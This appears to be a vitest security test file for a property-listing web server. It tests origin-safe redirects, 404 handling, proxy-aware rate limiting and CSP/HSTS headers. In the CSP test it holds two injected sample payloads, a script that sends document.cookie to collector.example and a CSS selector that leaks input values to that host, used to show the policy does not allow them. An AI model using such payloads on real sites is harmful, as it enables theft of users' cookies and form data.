/**
 * The server tried as an attacker would (docs/decisions.md #24), over real HTTP:
 *  - hostile paths: no answer sends a visitor off the origin (a Location, a twin, a canonical);
 *  - made-up place pages: 10,000 of them are 10,000 404s, and the server remembers none of them;
 *  - a forged X-Forwarded-For behind a real proxy (TRUST_PROXY=1) does not escape the rate limits;
 *  - security headers on every answer: a Content-Security-Policy that lets run only the built
 *    pages' own inline code, HSTS once published on https, nosniff.
 * The image fetcher's refusals are security-image-fetcher.test.ts.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, request, type IncomingMessage, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ourInlineCode, pagePolicy } from '../../server/http/csp.ts';
import { HOSTILE_PATHS } from '../support/hostile-paths.ts';
import { close, listen } from '../support/listening.ts';
import { startTestServer, type TestServer } from '../support/servers.ts';

setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

/** A raw GET: the path exactly as written (fetch() would normalise it first). */
function rawGet(
  base: string,
  path: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; headers: IncomingMessage['headers']; body: string }> {
  const { hostname, port } = new URL(base);
  return new Promise((resolve, reject) => {
    const req = request(
      { host: hostname === 'localhost' ? '127.0.0.1' : hostname, port, path, method: 'GET', headers },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }),
        );
      },
    );
    req.on('error', reject);
    req.end();
  });
}

describe('closed to abuse: the real server, as an attacker tries it', () => {
  let server: TestServer;
  let cacheDir: string;
  let proxy: Server | undefined;

  beforeAll(async () => {
    cacheDir = mkdtempSync(join(tmpdir(), 'exp-security-'));
    server = await startTestServer('postgres', { trustProxy: { hops: 1 }, site: { imageCacheDir: cacheDir } });
  });
  afterAll(async () => {
    await close(proxy);
    await server?.close();
    rmSync(cacheDir, { recursive: true, force: true });
  });

  // first: the server reads the cities with listings once (kept 5 minutes), after this test changed one
  it('a place page exists for a known place only; another spelling answers 301 to its one slug', async () => {
    // a city of the data that is not one of the hero's places is a page too, with its search set to it
    await server.sql(
      "update internal.listings set city = 'Puerto López' where id = (select min(id) from internal.listings where status = '1' and country_code = 'EC' and city = 'Manta')",
    );
    const puerto = await rawGet(server.url, '/es/search-properties/puerto-lopez');
    expect(puerto.status).toBe(200);
    expect(puerto.body).toContain('<exp-property-search city="Puerto López"');
    expect(puerto.body).toMatch(/<h1[^>]*>Propiedades en venta en Puerto López<\/h1>/);
    const [city] = await server.sql<{ city: string }>(
      "select city from internal.listings where status = '1' and country_code = 'EC' and city = 'Cumbayá' limit 1",
    );
    expect(city?.city).toBe('Cumbayá');
    expect((await rawGet(server.url, '/search-properties/cumbaya')).status).toBe(200);
    for (const [spelling, canonical] of <Array<[string, string]>>[
      ['/search-properties/Cumbay%C3%A1', '/search-properties/cumbaya'],
      ['/search-properties/CUMBAYA?beds=2', '/search-properties/cumbaya?beds=2'],
      ['/es/search-properties/bahia_de_caraquez', '/es/search-properties/bahia-de-caraquez'],
    ]) {
      const res = await rawGet(server.url, spelling);
      expect(res.status, spelling).toBe(301);
      expect(res.headers.location, spelling).toBe(canonical);
    }
    for (const made of [
      '/search-properties/zzzz-made-up-place-123',
      '/es/search-properties/atlantis',
      '/search-properties/%E0%A4%A',
      '/search-properties/---',
    ]) {
      const res = await rawGet(server.url, made);
      expect(res.status, made).toBe(404);
      expect(res.body, made).toContain('<meta name="robots" content="noindex"');
      expect(res.body, made).not.toContain('rel="canonical"');
    }
  });

  it(`${HOSTILE_PATHS.length} hostile paths: every redirect, twin and canonical stays on the origin`, async () => {
    expect(HOSTILE_PATHS.length).toBeGreaterThanOrEqual(30);
    const origin = new URL(server.url).origin;
    const offOrigin: string[] = [];
    for (const start of HOSTILE_PATHS) {
      let path = start;
      for (let hop = 0; hop < 6; hop++) {
        const res = await rawGet(server.url, path);
        expect(res.status, path).not.toBe(500);
        const twin = /<html[^>]*\sdata-exp-twin="([^"]*)"/.exec(res.body)?.[1];
        for (const [what, target] of [
          ['Location', res.headers.location],
          ['twin', twin],
        ] as const) {
          if (target === undefined) continue;
          // a path of ours: one slash, then not a slash or a backslash; nothing a browser strips
          if (!/^\/(?![/\\])[^\s\u0000-\u001f\u007f]*$/.test(target) || new URL(target, origin).origin !== origin)
            offOrigin.push(`${start}: ${what} ${JSON.stringify(target)}`);
        }
        const canonical = /<link rel="canonical" href="([^"]*)"/.exec(res.body)?.[1];
        if (canonical && new URL(canonical).origin !== origin) offOrigin.push(`${start}: canonical ${canonical}`);
        if (res.status < 300 || res.status >= 400 || !res.headers.location) break;
        path = res.headers.location;
      }
    }
    expect(offOrigin).toEqual([]);
  });

  it('10,000 made-up place pages: every one a 404, and the server remembers none of them (its heap grows < 20 MB)', async () => {
    // warm: the cities, the 404 page in both languages
    for (let i = 0; i < 200; i++) await rawGet(server.url, `/${i % 2 ? 'es/' : ''}search-properties/warm-${i}`);
    gc();
    const before = process.memoryUsage();
    let next = 0;
    const statuses = new Map<number, number>();
    await Promise.all(
      Array.from({ length: 16 }, async () => {
        for (let i = next++; i < 10_000; i = next++) {
          const res = await rawGet(
            server.url,
            `/${i % 2 ? 'es/' : ''}search-properties/zzzz-made-up-place-${i}-${'x'.repeat(i % 60)}`,
          );
          statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        }
      }),
    );
    gc();
    const after = process.memoryUsage();
    expect(Object.fromEntries(statuses)).toEqual({ 404: 10_000 });
    const grown = after.heapUsed + after.external - (before.heapUsed + before.external);
    expect(grown / 1024 / 1024).toBeLessThan(20);
  }, 180_000);

  it('a forged X-Forwarded-For behind a real proxy (TRUST_PROXY=1) is still one client: 429 after the limit', async () => {
    // a proxy of ours, as nginx's $proxy_add_x_forwarded_for does it: what came, plus the peer it saw
    const target = new URL(server.url);
    proxy = createServer((req, res) => {
      const seen = req.socket.remoteAddress ?? '';
      const forwarded = req.headers['x-forwarded-for'] ? `${String(req.headers['x-forwarded-for'])}, ${seen}` : seen;
      const upstream = request(
        {
          host: '127.0.0.1',
          port: target.port,
          path: req.url,
          method: req.method,
          headers: { ...req.headers, 'x-forwarded-for': forwarded },
        },
        (up) => {
          res.writeHead(up.statusCode ?? 502, up.headers);
          up.pipe(res);
        },
      );
      req.pipe(upstream);
    });
    const proxyPort = await listen(proxy);
    const [listing] = await server.sql<{ id: string }>(
      "select id::text as id from internal.listings where status = '1' and country_code = 'EC' order by id limit 1",
    );
    const post = async (fn: string, body: Record<string, unknown>, forged: string) => {
      const res = await fetch(`http://127.0.0.1:${proxyPort}/functions/v1/${fn}`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', 'X-Forwarded-For': forged, Origin: 'https://partner.example' },
        body: JSON.stringify(body),
      });
      await res.arrayBuffer();
      return res.status;
    };
    const inquiries: number[] = [];
    for (let i = 0; i < 8; i++) {
      inquiries.push(
        await post(
          'send-property-inquiry',
          {
            name: `Visitor ${i}`,
            email: `visitor${i}@example.org`,
            message: `Question ${i}`,
            listingId: listing?.id,
            idempotencyKey: `forged-${Date.now()}-${i}`,
          },
          `198.51.100.${i + 1}, 203.0.113.${i + 1}`,
        ),
      );
    }
    expect(inquiries).toEqual([200, 200, 200, 200, 200, 429, 429, 429]);
    const alerts: number[] = [];
    for (let i = 0; i < 8; i++)
      alerts.push(
        await post(
          'saved-searches',
          {
            action: 'subscribe',
            email: `alerts${i}@example.org`,
            filters: { city: `Quito ${i}` },
            frequency: 'daily',
            lang: 'en',
          },
          `198.51.100.${i + 50}`,
        ),
      );
    expect(alerts).toEqual([200, 200, 200, 200, 200, 429, 429, 429]);
  });
});

const SITE_DIR = resolve(import.meta.dirname, '../../dist/site');
const OURS = ourInlineCode(SITE_DIR);
const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

describe('security headers on every answer', () => {
  it('the Content-Security-Policy lets run only the inline code the built pages hold: a script or style that reached a page any other way is not hashed', () => {
    const page = readFileSync(join(SITE_DIR, 'listing.html'), 'utf8');
    const script = 'fetch("https://collector.example/?c=" + document.cookie)';
    const style = 'input[value^="a"] { background: url(https://collector.example/a) }';
    const injected = page.replace('</body>', () => `<script>${script}</script><style>${style}</style></body>`);
    const policy = pagePolicy(injected, { connect: [], scripts: [], inline: OURS });
    expect(policy).not.toContain(sha256(script));
    expect(policy).not.toContain(sha256(style));
    // the page's own boot script and style still run
    const own = /<script>([\s\S]*?)<\/script>/.exec(page)?.[1] ?? '';
    expect(own.length).toBeGreaterThan(100);
    expect(policy).toContain(sha256(own));
    expect(policy).toMatch(/style-src 'self' 'sha256-/);
    // without the pages' code, no inline code at all
    expect(pagePolicy(page, { connect: [], scripts: [] })).not.toMatch(/sha256-/);
  });

  it("HSTS once the site is published on https; nosniff on pages, JSON and functions; a Content-Security-Policy on every page, the 404 and the alert links' pages included", async () => {
    const published = await startTestServer('postgres', { site: { url: 'https://expecuador.example' } });
    const local = await startTestServer('postgres');
    try {
      for (const path of ['/', '/es/about', '/rest/v1/listings?select=id&limit=1', '/no-such-page']) {
        const res = await fetch(`${published.url}${path}`);
        expect(res.headers.get('strict-transport-security'), path).toBe('max-age=31536000');
        expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
        expect((await fetch(`${local.url}${path}`)).headers.get('strict-transport-security'), path).toBeNull();
      }
      const fn = await fetch(`${local.url}/functions/v1/send-property-inquiry`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: '{}',
      });
      expect(fn.status).toBe(400);
      expect(fn.headers.get('x-content-type-options')).toBe('nosniff');
      for (const path of ['/', '/es/findanagent', '/no-such-page', '/alerts/confirm?token=x']) {
        const policy = (await fetch(`${local.url}${path}`)).headers.get('content-security-policy') ?? '';
        expect(policy, path).toMatch(/^default-src 'self'; script-src 'self' 'sha256-[A-Za-z0-9+/=]{44}'/);
        expect(policy, path).toContain("frame-ancestors 'self'");
        // every inline script it lets run is one the built pages hold
        const hashes = [...(/script-src ([^;]*)/.exec(policy)?.[1] ?? '').matchAll(/'(sha256-[^']+)'/g)].map(
          (m) => `'${m[1]}'`,
        );
        expect(hashes.length, path).toBeGreaterThan(0);
        for (const h of hashes) expect(OURS.scripts.has(h), `${path} ${h}`).toBe(true);
      }
    } finally {
      await published.close();
      await local.close();
    }
  });
});
